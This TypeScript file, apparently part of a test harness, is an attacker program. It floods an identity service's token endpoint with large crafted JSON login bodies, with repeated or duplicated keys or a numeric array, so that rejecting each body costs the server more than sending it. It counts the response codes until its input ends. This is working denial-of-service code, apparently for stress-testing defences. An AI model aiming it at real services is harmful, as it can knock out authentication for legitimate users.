/** The program of an attacker who sends bodies that cost more to refuse than to send. It sends them until its input ends. */
import { Agent, request } from 'node:http'
import { setPriority } from 'node:os'

/** Bodies of logins over HTTP. A row of a scenario. */
export interface Bodies {
  /** How many are in flight at any time, on a connection each. */
  readonly inFlight: number
  readonly of: keyof typeof CONTENTS
}

/** Size of the largest body that is read. */
const BODY_BYTES = 114_688

/** What a body begins and ends with, and its parts in between. */
const CONTENTS = {
  /** What is wrong is found at once. */
  'one key again and again': ['{"auth":{', () => '"a":0,', '"a":0}}'],
  /** It is found at the end. */
  'keys of which the last one repeats': ['{"auth":{', (index: number) => `"${index}":0,`, '"0":0}}'],
  /** It is no login, but there is nothing wrong with the JSON. */
  numbers: ['{"auth":[', () => '0,', '0]}'],
} as const

function bodyOf([beginning, part, end]: (typeof CONTENTS)[keyof typeof CONTENTS]): string {
  let body: string = beginning
  for (let index = 0; body.length + end.length < BODY_BYTES - 16; index++) body += part(index)
  return body + end
}

const { http, bodies } = JSON.parse(process.argv[2] ?? '') as { http: string; bodies: Bodies }
setPriority(5)
const counts: Record<string, number> = {}
const agent = new Agent({ keepAlive: true, maxSockets: bodies.inFlight })
const body = bodyOf(CONTENTS[bodies.of])
const headers = { 'content-type': 'application/json', 'content-length': body.length }
let over = false

/** Sends one body. @returns the status of the answer */
function post(): Promise<string> {
  return new Promise((resolve) => {
    const posting = request(`http://${http}/identity/v3/auth/tokens`, { method: 'POST', agent, headers })
    posting.on('error', ({ message }) => resolve(message))
    posting.on('response', (answer) => answer.resume().on('close', () => resolve(String(answer.statusCode))))
    posting.end(body)
  })
}

process.stdin.resume().on('end', () => {
  over = true
  process.stdout.write(`${JSON.stringify(counts)}\n`, () => process.exit(0))
})
for (let loop = 0; loop < bodies.inFlight; loop++)
  void (async () => {
    while (!over) {
      const ending = await post()
      if (Object.keys(counts).length === 0) process.stdout.write('attacking\n')
      counts[ending] = (counts[ending] ?? 0) + 1
    }
  })()
